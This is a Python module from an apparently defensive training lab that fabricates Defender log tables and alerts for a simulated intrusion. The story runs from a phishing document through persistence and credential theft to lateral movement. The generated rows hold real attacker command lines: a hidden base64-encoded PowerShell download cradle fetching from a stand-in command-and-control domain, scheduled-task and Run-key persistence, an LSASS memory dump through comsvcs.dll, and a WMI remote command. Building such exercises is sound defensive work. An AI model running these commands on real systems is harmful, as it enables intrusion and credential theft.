# Copyright (c) 2026 the contributors
# GNU General Public License v3.0+ (see https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""Story ``intrusion``: a macro document in a mail, an encoded PowerShell, a payload that calls
home, persistence, LSASS and a second host."""

from __future__ import annotations

import base64
from datetime import datetime, timedelta

from defender_lab.world import evidence
from defender_lab.world.chapters import ENDPOINT, AlertPlan, Chapter
from defender_lab.world.clouds import attach, mail
from defender_lab.world.indicators import Indicators, Intrusion
from defender_lab.world.processes import SYSTEM, Process, shell, start
from defender_lab.world.scene import Scene

NAME = "intrusion"
TABLES = (
    "EmailEvents",
    "EmailAttachmentInfo",
    "DeviceFileEvents",
    "DeviceProcessEvents",
    "DeviceNetworkEvents",
    "DeviceRegistryEvents",
    "DeviceEvents",
    "DeviceLogonEvents",
)
_DROP = "C:\\Users\\Public\\Libraries"
_RUN = "HKEY_CURRENT_USER\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run"
_EDR = "microsoftDefenderForEndpoint"


def tell(scene: Scene, known: Indicators, begin: datetime) -> Chapter:
    facts = known.intrusion
    device = scene.rng.choice(scene.workstations)
    user = device.owner
    at = begin
    # a supplier's own mailbox was taken over, so that every check of the sender passes
    received = at - timedelta(minutes=26)
    order = mail(
        scene,
        received,
        facts.sender,
        "Northwind Parts Orders",
        facts.sender_ip,
        user,
        "Purchase order Q3",
        [],
        AttachmentCount=1,
    )
    attach(scene, received, order, facts.document, facts.document_sha256, 184320)
    outlook = start(
        "OUTLOOK.EXE",
        '"OUTLOOK.EXE"',
        at - timedelta(hours=3),
        user,
        pid=scene.pid(),
        parent=shell(user, at),
    )
    local = f"C:\\Users\\{user.account}\\AppData\\Local"
    folder = f"{local}\\Microsoft\\Windows\\INetCache\\Content.Outlook\\QX71"
    document = {
        "FileName": facts.document,
        "FolderPath": f"{folder}\\{facts.document}",
        "SHA256": facts.document_sha256,
        "FileSize": 184320,
    }
    scene.on_device("DeviceFileEvents", at, device, outlook, "FileCreated", **document)
    at += timedelta(minutes=2)
    word = start(
        "WINWORD.EXE",
        f'"WINWORD.EXE" /n "{folder}\\{facts.document}" /o ""',
        at,
        user,
        pid=scene.pid(),
        parent=outlook,
    )
    scene.run(at, device, word, outlook)
    at += timedelta(seconds=11)
    script = (
        "IEX(New-Object"
        f" Net.WebClient).DownloadFile('https://{facts.c2_domain}/u/a.dat','{_DROP}\\{facts.payload}')"
    )
    encoded = base64.b64encode(script.encode("utf-16-le")).decode()
    command = f"powershell.exe -NoP -NonI -W Hidden -EncodedCommand {encoded}"
    powershell = start("powershell.exe", command, at, user, pid=scene.pid(), parent=word)
    scene.run(at, device, powershell, word)
    scene.connect(
        at + timedelta(seconds=3),
        device,
        powershell,
        facts.c2_ip,
        f"https://{facts.c2_domain}/u/a.dat",
    )
    at += timedelta(seconds=6)
    drop = {
        "FileName": facts.payload,
        "FolderPath": f"{_DROP}\\{facts.payload}",
        "SHA256": facts.payload_sha256,
        "SHA1": facts.payload_sha1,
    }
    scene.on_device(
        "DeviceFileEvents",
        at,
        device,
        powershell,
        "FileCreated",
        **drop,
        FileOriginUrl=f"https://{facts.c2_domain}/u/a.dat",
    )
    at += timedelta(seconds=20)
    payload = start(
        facts.payload,
        f"{_DROP}\\{facts.payload}",
        at,
        user,
        pid=scene.pid(),
        folder=_DROP,
        image=facts.payload_image,
        parent=powershell,
    )
    scene.run(at, device, payload, powershell)
    for beacon in range(12):
        moment = at + timedelta(minutes=5 * beacon, seconds=scene.rng.uniform(0, 20))
        scene.connect(moment, device, payload, facts.c2_ip, facts.c2_domain)
    executed = AlertPlan(
        "Suspicious PowerShell command line",
        "high",
        "Execution",
        ("T1059.001", "T1204.002", "T1071.001"),
        ENDPOINT,
        _EDR,
        at,
        (
            evidence.device(device, at),
            evidence.user(user, at),
            evidence.message(order, [], at),
            evidence.process(word, device, at),
            evidence.process(powershell, device, at, "malicious"),
            evidence.file(facts.document, folder, facts.document_sha256, None, device, at),
            evidence.file(
                facts.payload, _DROP, facts.payload_sha256, facts.payload_sha1, device, at
            ),
            evidence.ip(facts.c2_ip, at, verdict="malicious"),
            evidence.url(f"https://{facts.c2_domain}/u/a.dat", at),
        ),
        "An Office program started PowerShell with an encoded command that fetched a program.",
    )
    later = (
        _persist(scene, facts, at, payload),
        _steal(scene, at, payload),
        _move(scene, at, payload),
    )
    title = (
        "Multi-stage incident involving Execution & Lateral movement on multiple endpoints"
        " reported by multiple sources"
    )
    return Chapter(NAME, title, (executed, *later))


def _persist(scene: Scene, facts: Intrusion, begin: datetime, payload: Process) -> AlertPlan:
    device = next(one for one in scene.workstations if one.owner == payload.account)
    at = begin + timedelta(minutes=6)
    task = (
        f'schtasks.exe /create /tn "OneDrive Sync Helper" /tr "{_DROP}\\{facts.payload}" /sc'
        " onlogon /rl highest /f"
    )
    tasks = start("schtasks.exe", task, at, payload.account, pid=scene.pid(), parent=payload)
    scene.run(at, device, tasks, payload)
    named = {"AdditionalFields": '{"TaskName":"\\\\OneDrive Sync Helper"}'}
    scene.on_device(
        "DeviceEvents", at + timedelta(seconds=1), device, tasks, "ScheduledTaskCreated", **named
    )
    at += timedelta(seconds=50)
    value = {
        "RegistryKey": _RUN,
        "RegistryValueName": "OneDriveSync",
        "RegistryValueData": f"{_DROP}\\{facts.payload}",
        "RegistryValueType": "String",
    }
    row = scene.on_device("DeviceRegistryEvents", at, device, payload, "RegistryValueSet", **value)
    found = (
        evidence.device(device, at),
        evidence.process(tasks, device, at),
        evidence.registry(row, device, at),
    )
    return AlertPlan(
        "Anomaly detected in ASEP registry",
        "medium",
        "Persistence",
        ("T1053.005", "T1547.001"),
        ENDPOINT,
        _EDR,
        at,
        found,
    )


def _steal(scene: Scene, begin: datetime, payload: Process) -> AlertPlan:
    device = next(one for one in scene.workstations if one.owner == payload.account)
    at = begin + timedelta(minutes=31)
    command = (
        "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712"
        " C:\\Windows\\Temp\\d.bin full"
    )
    dump = start("rundll32.exe", command, at, SYSTEM, pid=scene.pid(), parent=payload)
    scene.run(at, device, dump, payload)
    opened = {
        "FileName": "lsass.exe",
        "FolderPath": "C:\\Windows\\System32\\lsass.exe",
        "ProcessId": 712,
    }
    scene.on_device(
        "DeviceEvents",
        at + timedelta(seconds=1),
        device,
        dump,
        "OpenProcessApiCall",
        **opened,
        AdditionalFields='{"DesiredAccess":2097151}',
    )
    scene.on_device(
        "DeviceFileEvents",
        at + timedelta(seconds=2),
        device,
        dump,
        "FileCreated",
        FileName="d.bin",
        FolderPath="C:\\Windows\\Temp\\d.bin",
    )
    found = (evidence.device(device, at), evidence.process(dump, device, at, "malicious"))
    return AlertPlan(
        "LSASS process memory modified",
        "high",
        "CredentialAccess",
        ("T1003.001",),
        ENDPOINT,
        _EDR,
        at,
        found,
    )


def _move(scene: Scene, begin: datetime, payload: Process) -> AlertPlan:
    source = next(one for one in scene.workstations if one.owner == payload.account)
    target = scene.rng.choice(scene.servers)
    at = begin + timedelta(minutes=74)
    by = start("lsass.exe", "lsass.exe", at - timedelta(days=4), SYSTEM, pid=712)
    logon = {
        "AccountDomain": scene.admin.netbios.lower(),
        "AccountName": scene.admin.account.lower(),
        "AccountSid": scene.admin.sid,
    }
    origin = {
        "RemoteIP": source.ip,
        "RemoteDeviceName": source.name,
        "RemoteIPType": "Private",
        "Protocol": "NTLM",
    }
    scene.on_device(
        "DeviceLogonEvents",
        at,
        target,
        by,
        "LogonSuccess",
        LogonType="Network",
        IsLocalAdmin=True,
        **logon,
        **origin,
    )
    at += timedelta(seconds=4)
    host = start("WmiPrvSE.exe", "wmiprvse.exe -secured -Embedding", at, SYSTEM, pid=scene.pid())
    remote = start(
        "cmd.exe",
        "cmd.exe /Q /c whoami /all 1> \\\\127.0.0.1\\ADMIN$\\__1 2>&1",
        at,
        scene.admin,
        pid=scene.pid(),
        parent=host,
    )
    scene.run(at, target, remote, host)
    found = (
        evidence.device(target, at),
        evidence.device(source, at),
        evidence.user(scene.admin, at),
        evidence.process(remote, target, at),
    )
    return AlertPlan(
        "Suspicious WMI process creation",
        "high",
        "LateralMovement",
        ("T1047", "T1021.006"),
        ENDPOINT,
        _EDR,
        at,
        found,
    )
